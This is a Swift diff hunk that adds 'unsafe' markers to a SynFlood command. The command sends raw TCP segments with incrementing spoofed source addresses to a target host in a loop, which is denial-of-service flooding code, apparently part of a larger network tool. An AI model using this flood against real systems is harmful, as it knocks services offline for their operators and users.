@@ -17,15 +17,15 @@ package enum SynFlood {
             defer { close(raw) }
             var target = sockaddr_in()
             target.sin_family = sa_family_t(AF_INET)
-            guard inet_pton(AF_INET, address, &target.sin_addr) == 1 else {
+            guard unsafe inet_pton(AF_INET, address, &target.sin_addr) == 1 else {
                 throw CommandFailure("no address: \(address)")
             }
-            let server = withUnsafeBytes(of: target.sin_addr) { Array($0) }
+            let server = unsafe withUnsafeBytes(of: target.sin_addr) { unsafe Array($0) }
             for number in 0..<count {
                 let packet = segment(UInt32(0x0A00_0001 + number), server, port)
-                let sent = withUnsafePointer(to: &target) { target in
-                    target.withMemoryRebound(to: sockaddr.self, capacity: 1) {
-                        sendto(raw, packet, packet.count, 0, $0, 16)
+                let sent = unsafe withUnsafePointer(to: &target) { target in
+                    unsafe target.withMemoryRebound(to: sockaddr.self, capacity: 1) {
+                        unsafe sendto(raw, packet, packet.count, 0, $0, 16)
                     }
                 }
                 guard sent == packet.count || errno == ENOBUFS else {
